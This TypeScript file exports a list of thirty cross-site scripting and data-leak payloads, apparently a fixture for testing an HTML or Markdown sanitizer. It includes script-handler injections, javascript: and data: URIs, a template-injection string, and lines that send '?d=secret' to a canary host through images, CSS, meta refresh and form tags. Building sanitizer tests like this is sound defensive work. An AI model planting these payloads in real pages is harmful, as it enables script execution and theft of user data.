/**
 * Thirty known injections and leaks (OWASP).
 *
 * @param canary Must never be requested.
 */
export const scriptsFor = (canary: string): string[] => [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&#58;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](x" onerror="alert(1))',
  `![x](${canary}/?d=secret)`,
  `<${canary}/?d=secret>`,
  '"><script>alert(1)</script>',
  "';alert(1);//",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  `<style>@import "${canary}/x.css";</style>`,
  `<div style="background:url(${canary}/x)">`,
  `<link rel=stylesheet href=${canary}/x.css>`,
  `<meta http-equiv=refresh content="0;url=${canary}">`,
  `<base href="${canary}/">`,
  `<form action=${canary}><input name=a autofocus onfocus=alert(1)></form>`,
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202e<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];
